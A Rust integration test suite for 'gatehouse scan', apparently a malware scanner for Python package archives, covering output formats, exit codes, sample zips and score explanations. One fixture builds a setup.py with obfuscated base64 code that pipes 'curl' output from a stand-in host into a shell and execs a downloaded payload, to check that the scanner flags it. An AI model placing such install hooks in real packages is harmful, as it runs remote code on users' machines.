//! `gatehouse scan` as people and programs meet it: the real binary on archives built here.
#![allow(clippy::unwrap_used, reason = "a test")]

#[path = "scan/deaths.rs"]
mod deaths;
#[path = "scan/harness.rs"]
mod harness;
#[path = "scan/hostile.rs"]
mod hostile;
#[path = "scan/sandbox.rs"]
mod sandbox;

use harness::{HOLD, REVIEW, SHADOW, World, assert_valid, deflated, sdist, sdist_of, sealed, tar_gz, wheel, zip};
use serde_json::Value;

/// One clear, one for review, one to hold, in the order of their names.
fn three() -> World {
    let world = World::new();
    world.put("a-1.0.tar.gz", &sdist("x = 1"));
    world.put("b-1.0.tar.gz", &sdist(&format!("x = '{REVIEW}'")));
    world.put("c-1.0-py3-none-any.whl", &wheel(&format!("x = '{HOLD}'")));
    world
}

#[test]
fn jsonl_is_what_its_schema_says_in_the_order_of_the_inputs() {
    let world = three();
    let run = world.run(&["scan", "--format", "jsonl", "c-1.0-py3-none-any.whl", ".", "--jobs", "3"]);
    assert_eq!((run.code, run.stderr.as_str()), (1, ""));
    for line in run.lines() {
        assert_valid("schema/scan.v1.json", &line);
    }
    assert_eq!(run.column("outcome"), ["hold", "clear", "review", "hold"]);
    let paths = run.column("path");
    assert_eq!(paths, ["c-1.0-py3-none-any.whl", "./a-1.0.tar.gz", "./b-1.0.tar.gz", "./c-1.0-py3-none-any.whl"]);
    let hold = &run.lines()[0];
    assert_eq!((&hold["project"], &hold["version"]), (&Value::from("demo"), &Value::from("1.0")));
    let finding = hold["findings"].as_array().unwrap().iter().find(|finding| finding["rule"] == "marker-hold").unwrap();
    assert_eq!((&finding["member"], &finding["line"]), (&Value::from("demo/__init__.py"), &Value::from(1)));
    assert!(hold["summary"].as_str().unwrap().contains("marker"), "{}", hold["summary"]);
}

#[test]
fn the_fields_of_jsonl_come_in_a_fixed_order() {
    let world = three();
    let run = world.run(&["scan", "--format", "jsonl", "c-1.0-py3-none-any.whl"]);
    let line: serde_json::Map<String, Value> = serde_json::from_str(&run.stdout).unwrap();
    let keys = line.keys().map(String::as_str).collect::<Vec<_>>().join(" ");
    assert_eq!(
        keys,
        "schema path sha256 filename project version packagetype outcome score summary coverage findings rulebook \
         engine bytes_packed bytes_unpacked members took_ms"
    );
}

#[test]
fn json_is_one_document() {
    let run = three().run(&["scan", "--format", "json", "."]);
    let document: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!((&document["schema"], &document["finished"]), (&Value::from(1), &Value::from(true)));
    let verdicts = document["verdicts"].as_array().unwrap();
    assert_eq!(verdicts.len(), 3);
    for verdict in verdicts {
        assert_valid("schema/scan.v1.json", verdict);
    }
}

#[test]
fn the_table_of_exit_codes() {
    let world = three();
    let broken = sdist("x = 1");
    world.put("d-1.0.tar.gz", &broken[..broken.len() / 2]);
    let clear = "a-1.0.tar.gz";
    let review = "b-1.0.tar.gz";
    let hold = "c-1.0-py3-none-any.whl";
    let incomplete = "d-1.0.tar.gz";
    for (arguments, code) in [
        (vec![clear], 0),
        (vec![review], 1),
        (vec![hold], 1),
        (vec![clear, review], 1),
        (vec![review, "--fail-on", "hold"], 0),
        (vec![hold, "--fail-on", "hold"], 1),
        (vec![review, "--fail-on", "medium"], 1),
        (vec![review, "--fail-on", "high"], 0),
        (vec![incomplete], 3),
        (vec![incomplete, clear], 3),
        (vec![incomplete, review], 1),
        (vec![review, "--exit-zero"], 0),
        (vec![incomplete, "--exit-zero"], 3),
        (vec!["none.whl"], 2),
        (vec!["none.whl", review], 2),
        (vec!["none.whl", "--exit-zero"], 2),
        (vec![clear, "--no-such-option"], 2),
        (vec![clear, "--fail-on", "clear"], 2),
        (vec![clear, "--timeout", "0"], 2),
        (vec![], 2),
    ] {
        let mut all = vec!["scan"];
        all.extend(&arguments);
        let run = world.run(&all);
        assert_eq!(run.code, code, "{arguments:?}: {run:#?}");
    }
}

#[test]
fn a_path_that_cannot_be_read_is_said_and_the_others_are_judged() {
    let run = three().run(&["scan", "--format", "jsonl", "none.whl", "a-1.0.tar.gz"]);
    assert_eq!(run.column("outcome"), ["clear"]);
    assert!(run.stderr.starts_with("error: cannot read\n  --> none.whl\n  why: "), "{}", run.stderr);
    assert!(run.stderr.contains("  try: "), "{}", run.stderr);
}

#[test]
fn an_archive_is_told_by_its_content() {
    let world = World::new();
    world.put("1-wheel.whl", &wheel("x = 1"));
    world.put("2-wheel.txt", &wheel("x = 1"));
    world.put("3-sdist.whl", &sdist("x = 1"));
    world.put("4-sdist.tgz", &sdist("x = 1"));
    let files: [(&str, &[u8]); 2] = [("demo-1.0/PKG-INFO", b"Name: demo\n"), ("demo-1.0/setup.py", b"import os\n")];
    world.put("5-sdist.zip", &zip(&files, deflated()));
    let egg: [(&str, &[u8]); 2] = [("EGG-INFO/PKG-INFO", b"Name: demo\n"), ("demo/__init__.py", b"x = 1\n")];
    world.put("6-egg", &zip(&egg, deflated()));
    world.put("7-old.tar.bz2", &unhex(BZIP2));
    world.put("8-old.tar.xz", &unhex(XZ));
    world.put("9-notes.txt", b"nothing to judge");
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    let types = run.column("packagetype");
    assert_eq!(
        types,
        ["bdist_wheel", "bdist_wheel", "sdist", "sdist", "sdist", "bdist_egg", "sdist", "sdist"],
        "{}",
        run.stdout
    );
    // The old formats were read, not only recognised: both hold the marker.
    assert_eq!(run.column("outcome")[6..], ["hold", "hold"]);
    assert_eq!(run.stderr, "note: left out 1 file that is no archive by content or name\n");
    let named = world.run(&["scan", "--format", "jsonl", "9-notes.txt"]);
    assert_eq!(named.column("packagetype"), ["unknown"]);
}

#[test]
fn standard_input_is_judged_under_the_name_it_was_published_under() {
    let world = World::new();
    let run = world.run_with_input(
        &["scan", "--format", "jsonl", "-", "--stdin-filename", "thing-2.0-py3-none-any.whl"],
        &wheel(HOLD),
    );
    assert_eq!(run.code, 1);
    assert_eq!((&run.column("path")[0][..], &run.column("filename")[0][..]), ("-", "thing-2.0-py3-none-any.whl"));
    assert_eq!(
        (&run.column("project")[0][..], &run.column("version")[0][..]),
        ("demo", "1.0"),
        "the metadata inside knows better"
    );
}

#[test]
fn a_sample_zip_is_opened_in_memory_and_what_is_inside_is_judged() {
    let world = World::new();
    let (inner, other) = (sdist(HOLD), wheel("x = 1"));
    for (name, aes) in [("classic.zip", false), ("aes.zip", true)] {
        world.put(name, &sealed(&[("evil-1.0.tar.gz", &inner), ("deep/good-1.0-py3-none-any.whl", &other)], aes));
        let run = world.run(&["scan", "--format", "jsonl", "--password", "infected", name]);
        assert_eq!(run.code, 1, "{run:#?}");
        let paths = [format!("{name}!/evil-1.0.tar.gz"), format!("{name}!/deep/good-1.0-py3-none-any.whl")];
        assert_eq!(run.column("path"), paths);
        assert_eq!(run.column("filename"), ["evil-1.0.tar.gz", "good-1.0-py3-none-any.whl"]);
        assert_eq!(run.column("outcome"), ["hold", "clear"]);
        assert_eq!(run.column("sha256")[0], model::Digest::of(&inner).to_string());
    }
    let wrong = world.run(&["scan", "--password", "other", "aes.zip"]);
    assert_eq!(wrong.code, 2);
    assert!(
        wrong.stderr.contains("cannot open the sample zip") && wrong.stderr.contains("try: --password"),
        "{wrong:?}"
    );
    // Without the password nobody has read it, and nobody says that it is clear.
    let closed = world.run(&["scan", "--format", "jsonl", "aes.zip"]);
    assert_eq!(closed.column("outcome").iter().filter(|outcome| *outcome == "clear").count(), 0, "{closed:?}");
}

#[test]
fn a_sample_zip_of_loose_files_is_judged_as_the_project_they_are() {
    let world = World::new();
    let files: [(&str, &[u8]); 2] = [("demo-1.0/PKG-INFO", b"Name: demo\n"), ("demo-1.0/setup.py", HOLD.as_bytes())];
    world.put("sample.zip", &sealed(&files, true));
    let run = world.run(&["scan", "--format", "jsonl", "--password", "infected", "sample.zip"]);
    assert_eq!((run.column("outcome"), run.column("path")), (vec!["hold".to_owned()], vec!["sample.zip".to_owned()]));
    assert_eq!(run.column("packagetype"), ["sdist"]);
}

#[test]
fn sarif_is_within_the_standard_and_its_fingerprints_survive_a_new_release() {
    let world = three();
    let document = |name: &str| -> Value {
        let run = world.run(&["scan", "--format", "sarif", name]);
        let document = serde_json::from_str(&run.stdout).unwrap();
        assert_valid("tests/scan/sarif.schema.json", &document);
        document
    };
    let all = document(".");
    let run = &all["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert!(results.iter().any(|result| result["ruleId"] == "marker-hold" && result["level"] == "error"), "{all:#}");
    for result in results {
        let rule = &run["tool"]["driver"]["rules"][result["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], result["ruleId"]);
    }
    let marker = |document: &Value| {
        let results = document["runs"][0]["results"].as_array().unwrap().clone();
        results.into_iter().find(|result| result["ruleId"] == "marker-review").unwrap()
    };
    world.put("demo-1.0.tar.gz", &sdist_of("demo-1.0", &format!("x = '{REVIEW}'\n")));
    world.put("demo-1.1.tar.gz", &sdist_of("demo-1.1", &format!("import os\n\n\nx = '{REVIEW}'\n")));
    let (old, new) = (marker(&document("demo-1.0.tar.gz")), marker(&document("demo-1.1.tar.gz")));
    assert_eq!(old["partialFingerprints"], new["partialFingerprints"]);
    let line = |result: &Value| result["locations"][0]["physicalLocation"]["region"]["startLine"].clone();
    assert_eq!((line(&old), line(&new)), (Value::from(1), Value::from(4)));
}

#[test]
fn a_shadow_rule_is_recorded_and_changes_nothing() {
    let world = World::new();
    world.put("a-1.0.tar.gz", &sdist(&format!("x = '{SHADOW}'")));
    let run = world.run(&["scan", "--format", "jsonl", "."]);
    assert_eq!((run.code, run.column("outcome")), (0, vec!["clear".to_owned()]));
    assert_eq!(run.lines()[0]["findings"][0]["rule"], "marker-shadow");
    assert_eq!(run.lines()[0]["findings"][0]["weight"], 0.0);
    assert_eq!(world.run(&["scan", ".", "--fail-on", "critical"]).code, 0);
    assert!(!world.run(&["scan", "."]).stdout.contains("marker-shadow"));
    assert!(world.run(&["scan", ".", "--verbose"]).stdout.contains("marker-shadow"));
    assert!(!world.run(&["scan", ".", "--format", "sarif"]).stdout.contains("marker-shadow"));
}

#[test]
fn people_read_why_where_and_what_to_do_next() {
    let world = three();
    let run = world.run(&["scan", "."]);
    let lines = run.stdout.lines().collect::<Vec<_>>();
    assert!(lines[0].starts_with("clear  ./a-1.0.tar.gz  score "), "{}", run.stdout);
    assert!(lines[1].starts_with("REVIEW  ./b-1.0.tar.gz  score "), "a clear archive is one line: {}", run.stdout);
    for part in [
        "HOLD  ./c-1.0-py3-none-any.whl",
        "high: Holds the test marker  marker-hold",
        "--> demo/__init__.py:1:",
        &format!(" 1 │ x = '{HOLD}'"),
        &format!("   │      {}", "^".repeat(HOLD.len())),
        "\nVerdicts on 3 archives: 1 hold, 1 review, 1 clear.  Why: gatehouse explain marker-hold",
    ] {
        assert!(run.stdout.contains(part), "{part:?} is not in\n{}", run.stdout);
    }
    let one = world.run(&["scan", "c-1.0-py3-none-any.whl"]);
    assert!(one.stdout.trim_end().lines().last().unwrap().starts_with("Verdict: hold (score "), "{}", one.stdout);
}

#[test]
fn explain_prints_the_arithmetic_of_the_score() {
    let run = three().run(&["scan", "--explain", "b-1.0.tar.gz"]);
    for part in
        ["   -4.000  before anything is known", "   +5.000  marker-review: medium 5, at ", "=  +1.000  together: "]
    {
        assert!(run.stdout.contains(part), "{part:?} is not in\n{}", run.stdout);
    }
    assert!(run.stdout.contains("review from 50; hold from 95: review"), "{}", run.stdout);
}

#[test]
fn two_runs_say_the_same_however_many_work_on_them() {
    let world = three();
    let judged = |arguments: &[&str]| {
        let mut all = vec!["scan", "--format", "jsonl", "."];
        all.extend(arguments);
        let mut lines = world.run(&all).lines();
        for line in &mut lines {
            line["took_ms"] = Value::Null;
        }
        lines
    };
    let first = judged(&["--jobs", "1"]);
    assert_eq!(first, judged(&["--jobs", "1"]));
    assert_eq!(first, judged(&["--jobs", "4"]));
}

#[test]
fn the_built_in_rules_hold_a_download_that_is_run_on_install() {
    let world = World::new();
    let setup = "import base64, os, urllib.request\nfrom setuptools import setup\n\
        code = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vZHJvcC50ZXN0L3ggfCBzaCcp')\n\
        exec(code)\nexec(urllib.request.urlopen('http://drop.test/payload.py').read())\nsetup()\n";
    let files: [(&str, &[u8]); 2] =
        [("demo-1.0/PKG-INFO", harness::METADATA.as_bytes()), ("demo-1.0/setup.py", setup.as_bytes())];
    world.put("demo-1.0.tar.gz", &tar_gz(&files));
    let run = harness::Run::of(world.bare(&["scan", "demo-1.0.tar.gz"]).output().unwrap());
    assert_eq!(run.code, 1, "{run:#?}");
    assert!(run.stdout.contains("demo-1.0/setup.py:"), "{}", run.stdout);
    assert!(run.stdout.contains("hxxp://drop[.]test"), "URLs are defanged: {}", run.stdout);
    assert!(!run.stdout.contains("http://drop.test"), "URLs are defanged: {}", run.stdout);
}

fn unhex(text: &str) -> Vec<u8> {
    (0..text.len() / 2).map(|at| u8::from_str_radix(&text[2 * at..2 * at + 2], 16).unwrap()).collect()
}

/// An sdist whose `setup.py` holds the marker, compressed as nobody does any more: no crate here writes these.
const BZIP2: &str = concat!(
    "425a6839314159265359a2916f8e0000a9df85ca904863ff9027efdd00e727de200000820008083000b921a84d353d4f486868c80f5000f4",
    "99e92680f50c3434000006800000001289434da4c4640d1a34d00000c4349ea84ac51d6000b6810423bf40a34313af8a5b10415032c587dd",
    "0e1298169aa98edc8d35787d2672f128a4ea2132443010cc3041d095342820f42f38406edbf20b898fd8b5ce7177459888a74c1ed2983eb2",
    "78d562e5971b073131c79e0c843b466f434d2050b4070634df620c31ed8860a60651f9b4fcf0f57064cec847856bb74818108565890440fe",
    "2ee48a70a1214522df1c",
);
const XZ: &str = concat!(
    "fd377a585a000004e6d6b4460200210116000000742fe5a3e027ff00cc5d00321949fed71c75679d97b5238641ae8709da16b1a8e1655ef8",
    "32ca0129055b7e7ac4c37ad238d2584be3a924105368da3281d2b6f6e6ce3b5ae538969158f2cfeaecd51b457a54bd2b12733c3bbf0183d4",
    "8e69e26ed71ee700abd52f71c09832d99f9f7afb98e77c0cb52d0bf48ec93fca4c02ca004cce30e13ee8959a64e18627992dbc9d1c18ce90",
    "4daf311d92083b7a776613aa1088e97490f2d1953aef9d6fe1165dd1d68c29abbe7a46e1b3ea9fc2abc1cff5fd88b21a8672b3e41cc43635",
    "0def1c922c4cc025f760000099193bdfdafa667f0001e8018050000009fcc785b1c467fb020000000004595a",
);
